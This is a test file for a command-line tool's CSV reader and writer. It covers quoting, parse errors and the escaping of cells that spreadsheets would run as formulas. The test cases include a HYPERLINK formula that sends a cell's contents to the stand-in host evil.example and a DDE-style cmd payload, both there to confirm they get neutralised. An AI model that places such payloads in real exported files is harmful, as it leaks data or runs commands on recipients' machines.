/**
 * cli/lib/csv.ts: RFC 4180 reading and writing, and cells a spreadsheet would run as formulas written as text.
 */
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { CsvError, formatCsv, parseCsv } from "../../cli/lib/csv.ts";

describe("parseCsv", () => {
  it("reads quoted fields holding commas, doubled quotes and line breaks, with the line each row starts on", () => {
    const rows = parseCsv('a,b\r\n"x, y","say ""hi"""\n"two\nlines",z\n');
    expect(rows).toEqual([
      { line: 1, fields: ["a", "b"] },
      { line: 2, fields: ["x, y", 'say "hi"'] },
      { line: 3, fields: ["two\nlines", "z"] },
    ]);
  });

  it("ignores a byte-order mark and blank lines", () => {
    expect(parseCsv("\uFEFFa\n\nb").map((r) => r.fields)).toEqual([["a"], ["b"]]);
  });

  it.each([
    ['a,"open\nb', 1, "never closed"],
    ['a,b"c', 1, "inside an unquoted field"],
    ['a\n"q"x', 2, "after a closing double quote"],
  ])("rejects %j on line %i", (text, line, message) => {
    let error: unknown;
    try {
      parseCsv(text);
    } catch (e) {
      error = e;
    }
    expect(error).toBeInstanceOf(CsvError);
    expect((error as CsvError).line).toBe(line);
    expect((error as CsvError).message).toContain(message);
  });

  it("writes what it reads", () => {
    const rows = [["n", "x, y"], ['q"q', " pad"]];
    expect(parseCsv(formatCsv(rows)).map((r) => r.fields)).toEqual(rows);
  });
});

describe("formatCsv: cells a spreadsheet would run as formulas", () => {
  it.each([
    ["=", '=HYPERLINK("https://evil.example/?x="&A1,"Front desk")', `"'=HYPERLINK(""https://evil.example/?x=""&A1,""Front desk"")"`],
    ["@", "@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["a tab (and the segment after it)", "\t=1+1", `"'\t'=1+1"`],
    ["a carriage return", "\r=1+1", `"'\r=1+1"`],
    ["NUL", "\u0000=1+1", "'\u0000=1+1"],
    ["+ and not a number", "+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"],
    ["- and not a number", "-2+3", "'-2+3"],
    ["a ' before =", "'=1+1", "''=1+1"],
  ])("writes a cell starting with %s behind one '", (_, value, cell) => {
    expect(formatCsv([[value, "x"]])).toBe(`${cell},x\n`);
  });

  it.each([
    ["after a ; (spreadsheets in semicolon locales split there)", "North;@SUM(1+1)", `"North;'@SUM(1+1)"`],
    ["after each ;", "a;=1;b;+x", `"a;'=1;b;'+x"`],
    ["after a tab", "North\t=1+1", `"North\t'=1+1"`],
  ])("quotes a cell with a segment that starts a formula %s, and guards that segment", (_, value, cell) => {
    expect(formatCsv([[value, "x"]])).toBe(`${cell},x\n`);
  });

  it("quotes every cell holding a ; or a tab", () => {
    expect(formatCsv([["North;South", "a\tb"]])).toBe(`"North;South","a\tb"\n`);
  });

  it.each([
    ["an E.164 number", "+61341517921"],
    ["a negative number", "-12.5"],
    ["an agent id", "agent_abc123"],
    ["a ' before text", "'quoted'"],
    ["a formula character later in the text", "Desk = North"],
  ])("leaves %s as it is", (_, value) => {
    expect(formatCsv([[value, "x"]])).toBe(`${value},x\n`);
  });

  it("reads back every value it wrote, with exactly the ' it added removed", () => {
    fc.assert(
      fc.property(fc.array(fc.array(fc.string({ unit: fc.constantFrom("'", "=", "+", "-", "@", "\t", "\r", "1", ".", "a", " ", '"', ",", ";") }), { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 5 }), (rows) => {
        expect(parseCsv(formatCsv(rows)).map((r) => r.fields)).toEqual(rows);
      }),
    );
  });
});
